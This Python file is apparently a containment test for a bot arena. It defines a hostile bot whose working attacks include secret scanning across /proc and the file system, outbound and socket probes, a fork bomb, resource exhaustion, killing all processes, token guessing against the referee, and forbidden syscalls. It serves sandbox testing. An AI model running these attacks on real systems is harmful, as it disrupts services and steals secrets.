"""A hostile bot, one program for all attacks: `python hostile.py KIND [ARGUMENT ...]`, alone in its tree.

It says Hello like any bot, attacks when it is first asked, prints what came of it, and then crashes or stays silent, so that
every attack ends in a fault.
"""

from __future__ import annotations

import contextlib
import ctypes
import os
import signal
import socket
import sys
import time
from pathlib import Path
from typing import TYPE_CHECKING

import grpc

from arena import Bot, View, run
from euchre.v1 import control_pb2, control_pb2_grpc, referee_pb2, referee_pb2_grpc

if TYPE_CHECKING:
    from collections.abc import Callable, Iterator


class Failed(Exception):  # noqa: N818 - reads as what happened
    """The attack came to nothing, as it should; its traceback is in the log."""


def say(*words: object) -> None:
    print(*words, flush=True)


# ---- reading what is not ours ---------------------------------------------------------------------------------------


def snoop(secret: str, *paths: str) -> None:
    """Look for a secret everywhere, and at paths that are known to hold it."""
    for path in paths:
        for way in (path, f"/proc/1/root{path}", f"/bot/../..{path}", f"/proc/self/root{path}", f"/proc/self/cwd/../..{path}"):
            _look(Path(way), secret)
    for entry in Path("/proc").iterdir():
        if entry.name.isdigit():
            for name in ("environ", "cmdline", "maps", "mounts"):
                _look(entry / name, secret)
    spared = {"/usr", "/proc", "/sys", sys.prefix, sys.base_prefix}
    for folder, folders, files in os.walk("/"):
        folders[:] = [name for name in folders if str(Path(folder, name)) not in spared]
        for name in files:
            _look(Path(folder, name), secret)
    say("PROCESSES", len([entry for entry in Path("/proc").iterdir() if entry.name.isdigit()]))
    raise Failed("nothing found")


def _look(path: Path, secret: str) -> None:
    with contextlib.suppress(OSError):
        if path.is_file() and secret.encode() in path.read_bytes() and path.name != "cmdline":
            say("FOUND", path)


# ---- reaching out ---------------------------------------------------------------------------------------------------


def network(port: str, path: str, name: str) -> None:
    """Reach a port and a socket of this machine, another machine, and the hypervisor."""
    targets: list[tuple[str, Callable[[], object]]] = [
        ("loopback", lambda: socket.create_connection(("127.0.0.1", int(port)), 2)),
        ("outside", lambda: socket.create_connection(("192.0.2.1", 80), 2)),
        ("outside-6", lambda: socket.create_connection(("2001:db8::1", 80), 2)),
        ("resolver", lambda: socket.getaddrinfo("example.com", 80)),
        ("datagram", lambda: _socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b"x", ("192.0.2.1", 53))),
        ("raw", lambda: _socket(socket.AF_INET, socket.SOCK_RAW)),
        ("packet", lambda: _socket(17, socket.SOCK_RAW)),
        ("hypervisor", lambda: _socket(40, socket.SOCK_STREAM)),
        ("socket", lambda: _socket(socket.AF_UNIX, socket.SOCK_STREAM).connect(path)),
        ("abstract", lambda: _socket(socket.AF_UNIX, socket.SOCK_STREAM).connect(f"\0{name}")),
    ]
    for what, reach in targets:
        try:
            reach()
            say("REACHED", what)
        except OSError as error:
            say("refused", what, type(error).__name__, error)
    say("SOCKETS", sorted(entry.name for entry in Path("/run").iterdir()))
    raise Failed("nothing reached")


def _socket(family: int, kind: int) -> socket.socket:
    made = socket.socket(family, kind)
    made.settimeout(2)
    return made


# ---- using everything up --------------------------------------------------------------------------------------------


def forkbomb() -> None:
    """Fork and fork again, for ever; by the bare system call, since gRPC would rather abort than see a fork fail."""
    libc = ctypes.CDLL(None, use_errno=True)
    number = 220 if os.uname().machine == "aarch64" else 56
    refused = False
    while True:
        if libc.syscall(number, signal.SIGCHLD, 0, 0, 0, 0) < 0:
            if not refused:
                os.write(1, b"REFUSED to fork\n")
            refused = True
            time.sleep(0.2)


def memory() -> None:
    """Take memory until something gives."""
    hoard = []
    while True:
        hoard.append(bytearray(os.urandom(1 << 20)) * 16)


def disk() -> None:
    """Fill every file system."""
    for folder in ("/tmp", "/dev/shm", os.environ["HOME"], "/bot", "/", "/usr", "/opt", "/dev", "/etc", "/run", "/var/tmp"):
        written = 0
        try:
            with Path(folder, "big").open("wb") as file:
                for _ in range(400):
                    written += file.write(b"x" * (1 << 20))
                    file.flush()
        except OSError as error:
            say("STOPPED", folder, written >> 20, type(error).__name__, error.strerror)
    raise Failed("all full")


def inodes() -> None:
    """Make empty files without end."""
    number = 0
    while True:
        with contextlib.suppress(OSError):
            Path(f"/tmp/{number}").touch()
        number += 1


def flood() -> None:
    """Write more than anybody will keep."""
    for _ in range(100):
        for fd in (1, 2):
            os.write(fd, b"flood " * 100_000)
    raise Failed("all written")


# ---- staying, and striking ------------------------------------------------------------------------------------------


def linger(mark: str) -> None:
    """Leave daemons that ignore every signal that can be ignored."""
    for _ in range(3):
        if not os.fork():
            os.setsid()
            if os.fork():
                os._exit(0)
            for number in (signal.SIGTERM, signal.SIGHUP, signal.SIGINT, signal.SIGPIPE):
                signal.signal(number, signal.SIG_IGN)
            os.execv(sys.executable, [sys.executable, "-c", "import time; time.sleep(600)", mark])
    while sum(mark.encode() in _bytes(entry / "cmdline") for entry in Path("/proc").iterdir() if entry.name.isdigit()) < 4:
        time.sleep(0.05)
    say("DAEMONS up")
    os._exit(7)


def _bytes(path: Path) -> bytes:
    try:
        return path.read_bytes()
    except OSError:
        return b""


def strike(*victims: str) -> None:
    """Kill whatever can be killed."""
    seen = [pid for pid in (*range(2, 3000), *map(int, victims)) if pid != os.getpid() and _signal(pid, 0)]
    say("SEEN", seen)
    for pid in (*seen, *map(int, victims), 1):
        _signal(pid, signal.SIGKILL)
    _signal(-1, signal.SIGKILL)
    raise Failed("still here")


def _signal(pid: int, number: int) -> bool:
    try:
        os.kill(pid, number)
    except OSError:
        return False
    return True


# ---- another's seat -------------------------------------------------------------------------------------------------


def thief(guesses: str) -> None:
    """Guess tokens, ask the operator's service, and crowd others out."""
    channel = grpc.insecure_channel(os.environ["EUCHRE_REFEREE"])
    stub = referee_pb2_grpc.RefereeServiceStub(channel)
    token = os.environ["EUCHRE_TOKEN"]
    near = [token[:-1] + letter for letter in "abcdefgh" if letter != token[-1]] + ["", "operator", token[::-1]]
    for guess in (near * int(guesses))[: int(guesses)]:
        _try(stub, guess)
    control = control_pb2_grpc.ControlServiceStub(channel)
    cancel = control_pb2.CancelMatchRequest(match="test/match/1")
    for name, call in (
        ("ListSessions", lambda: control.ListSessions(control_pb2.ListSessionsRequest(), timeout=15)),
        ("CancelMatch", lambda: control.CancelMatch(cancel, timeout=15)),
    ):
        try:
            call()
            say("SERVED", name)
        except grpc.RpcError as error:
            say("refused", name, error.code().name)
    idle = []
    with contextlib.suppress(RuntimeError):  # of threads, each such stream takes one
        while len(idle) < 300:
            idle.append(stub.Play(iter(lambda: time.sleep(60), None)))  # it never says Hello
    say("IDLE", len(idle))
    time.sleep(1)
    raise Failed("no seat")


def _try(stub: referee_pb2_grpc.RefereeServiceStub, guess: str) -> None:
    requests: Iterator[referee_pb2.PlayRequest] = iter(
        [referee_pb2.PlayRequest(hello=referee_pb2.Hello(token=guess, protocol=1))]
    )
    try:
        for response in stub.Play(requests, timeout=15):
            say("SEATED", response)
    except grpc.RpcError as error:
        say("refused token", error.code().name)


# ---- the kernel -----------------------------------------------------------------------------------------------------

CALLS = {  # x86_64, aarch64, arguments
    "ptrace": (101, 117, 16, 1),
    "bpf": (321, 280, 0, 0, 0),
    "mount": (165, 40, 0, 0, 0, 0, 0),
    "unshare": (272, 97, 0x10000000),
    "unshare-files": (272, 97, 0x20000),
    "setns": (308, 268, 0, 0),
    "keyctl": (250, 219, 0, -3, 1),
    "add_key": (248, 217, 0, 0, 0, 0, -4),
    "userfaultfd": (323, 282, 0),
    "perf_event_open": (298, 241, 0, 0, -1, -1, 0),
    "kexec_load": (246, 104, 0, 0, 0, 0),
    "io_uring_setup": (425, 425, 1, 0),
    "memfd_create": (319, 279, 0, 0),
    "process_vm_readv": (310, 270, 1, 0, 0, 0, 0, 0),
    "pivot_root": (155, 41, 0, 0),
    "chroot": (161, 51, 0),
    "inotify_init1": (294, 26, 0),
    "shmget": (29, 194, 1, 4096, 0o1666),
    "clone3": (435, 435, 0, 0),
    "clone-namespace": (56, 220, 0x10000000, 0, 0, 0, 0),
    "new": (462, 462, 0, 0, 0),
    "reboot": (169, 142, 0, 0, 0, 0),
}


def kernel() -> None:
    """Call what must not be called; the kernel's own refusal (EFAULT, EINVAL) would mean that the filter let it through."""
    libc = ctypes.CDLL(None, use_errno=True)
    column = 1 if os.uname().machine == "aarch64" else 0
    for name, (*numbers, first, second) in ((name, (*call[:2], call[2], call[3:])) for name, call in CALLS.items()):
        ctypes.set_errno(0)
        result = libc.syscall(numbers[column], *map(ctypes.c_long, (first, *second)))
        say("CALL", name, result, os.strerror(ctypes.get_errno()) if result < 0 else "")
    raise Failed("all refused")


class Hostile(Bot):
    def choose(self, view: View) -> str:
        kind, *arguments = sys.argv[1:]
        globals()[kind](*arguments)
        time.sleep(600)
        return str(view.legal[0])


if __name__ == "__main__":
    run(Hostile())
